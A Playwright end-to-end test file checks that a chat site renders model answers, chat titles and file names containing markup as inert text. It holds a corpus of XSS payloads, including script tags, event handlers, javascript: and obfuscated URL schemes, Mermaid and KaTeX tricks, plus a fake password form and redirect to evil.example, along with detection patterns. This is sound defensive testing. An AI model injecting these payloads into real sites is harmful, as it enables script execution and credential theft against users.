import type { Locator, Page } from '@playwright/test';
import { streaming } from '../server/src/engines/openai/testing/upstream-server.ts';
import { expect, test } from './support/chat-site.ts';
import { textFile } from './support/given-files.ts';

// Text written by a model, a document or a visitor must stay text: none of it may run, whatever it looks like.

test.describe.configure({ mode: 'default' });

/** Answers that were used for script injection in other chats. */
const corpus = [
  '<script>window.ran = "script"</script>',
  '<img src=x onerror="window.ran = 1">',
  '<svg onload="window.ran = 2"><script>window.ran = 3</script></svg>',
  '<iframe srcdoc="<script>parent.ran = 4</script>"></iframe>',
  '<a href="javascript:window.ran=5">a</a> <details open ontoggle="window.ran=6">b</details>',
  '[click](javascript:window.ran=7) [tab](java\tscript:window.ran=8) [entity](&#106;avascript:window.ran=9)',
  '[data](data:text/html,<script>window.ran=10</script>) [vb](vbscript:msgbox(1)) [host](//evil.example/x) [back](/\\evil.example)',
  '![x](javascript:window.ran=11) ![far](https://evil.example/pixel.png) ![out](x" onerror="window.ran=12)',
  '<javascript:window.ran=13> <https://ok.example/"onmouseover=window.ran=14>',
  '```html\n<img src=x onerror=window.ran=15>\n```',
  '```"><img src=x onerror=window.ran=16>\ncode\n```',
  '$$\\href{javascript:window.ran=17}{x} \\htmlData{onclick=window.ran=18}{y} \\includegraphics{https://evil.example/x.png}$$',
  '| a | b |\n| - | - |\n| <img src=x onerror=window.ran=19> | <b onclick="window.ran=20">c</b> |',
  '[^1]\n\n[^1]: <img src=x onerror=window.ran=21> [f](javascript:window.ran=22)',
  '<style>*{display:none}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>login</button></form>',
  '```mermaid\ngraph LR\n  A["<img src=x onerror=window.ran=23>"] --> B\n  click A "javascript:window.ran=24"\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\nflowchart TD\n  C["<script>window.ran=25</script>"] --> D\n  click D call alert()\n```',
].join('\n\n');

/** Everything in a part of the page that could be active: elements, attributes and addresses. */
const active = (part: Locator): Promise<string[]> =>
  part.evaluate((root) => {
    const found: string[] = [];
    for (const element of root.querySelectorAll('*')) {
      if (/^(script|iframe|object|embed|base|meta|foreignobject)$/i.test(element.tagName)) found.push(element.tagName);
      if (element.matches('form[action], input[name=password]')) found.push(element.tagName);
      for (const { name, value } of element.attributes) {
        if (/^on/i.test(name)) found.push(`${element.tagName} ${name}`);
        if (/^(href|src|xlink:href|action|srcdoc)$/i.test(name) && /^\s*(javascript|vbscript|data:text)/i.test(value))
          found.push(`${element.tagName} ${value}`);
      }
      // Links to other sites may be followed, in a tab without access to this one.
      const leads = element.getAttribute('href') ?? '';
      const open =
        /^https:/.test(leads) &&
        element.getAttribute('target') === '_blank' &&
        element.getAttribute('rel')?.includes('noopener') === true;
      if (element instanceof HTMLAnchorElement && element.hostname.includes('evil') && !open)
        found.push(`A to ${leads}`);
    }
    return found;
  });

/** Records everything that ran, was requested, or was blocked by the policy. */
async function watch(page: Page): Promise<readonly string[]> {
  const seen: string[] = [];
  page.on('dialog', (dialog) => {
    seen.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => request.url().includes('evil.example') && seen.push(`request ${request.url()}`));
  await page.exposeFunction('tellViolation', (violation: string) => seen.push(violation));
  await page.addInitScript(() => {
    const tell: (violation: string) => void = Reflect.get(window, 'tellViolation');
    document.addEventListener('securitypolicyviolation', ({ target, effectiveDirective, blockedURI }) => {
      // Mermaid sanitises labels in an inert document where nothing runs; Chromium still reports their handlers, without an element.
      if (target === document && effectiveDirective === 'script-src-attr') return;
      tell(`${effectiveDirective} ${blockedURI}`);
    });
  });
  return seen;
}

const ran = (page: Page): Promise<unknown> => page.evaluate('window.ran');

test('an answer full of markup shows it as text: nothing runs, nothing is fetched, nothing leads away in disguise @mf-chat @local @own-site @nightly', async ({
  signedIn: page,
  chat,
  model,
  errors,
}) => {
  errors.announce(/Executing inline event handler/);
  const seen = await watch(page);
  model.play(streaming(...(corpus.match(/[\s\S]{1,7}/g) ?? [])));
  await chat.open();
  await chat.ask('给我一些代码');
  await chat.expectAnswered();
  const diagrams = chat.lastAnswer.getByRole('figure').filter({ has: page.locator('svg, img') });
  for (const round of ['streamed', 'after a reload']) {
    await expect(chat.lastAnswer, round).toContainText('<script>window.ran = "script"</script>');
    await diagrams.first().scrollIntoViewIfNeeded();
    await expect(chat.lastAnswer.locator('[aria-busy="true"]'), round).toHaveCount(0);
    expect(await active(chat.lastAnswer), round).toEqual([]);
    expect(await ran(page), round).toBeUndefined();
    await page.reload();
  }
  expect(seen).toEqual([]);
});

/** Short enough to become the name of a chat unchanged. */
const NAME = '"><img src onerror=ran=1>';

test('names of chats and files are text wherever they stand @mf-chat @local @own-site @nightly', async ({
  signedIn: page,
  chat,
  model,
}) => {
  const seen = await watch(page);
  model.said.title = `<b onclick=ran=2>${NAME}`;
  model.said.followUps = [`<img src=x onerror=window.ran=3>`, '[x](javascript:window.ran=4)'];
  await chat.open();
  await chat.attach(textFile(`${NAME}.txt`, '内容'));
  await expect(chat.attachments).toContainText('2 字');
  await chat.ask(NAME);
  await chat.expectAnswered();
  await expect(chat.lastAnswer.getByRole('list', { name: '接着问' })).toContainText('<img src=x');
  await chat.openHistory();
  await chat.chooseForEntry(NAME, '智能重命名');
  await expect(chat.history.getByRole('link').first()).toContainText('onclick=ran=2');
  await page.reload();
  await expect(chat.questions.last()).toContainText(`${NAME}.txt`);
  expect(await active(page.getByRole('main'))).toEqual([]);
  expect(await ran(page)).toBeUndefined();
  expect(seen).toEqual([]);
});
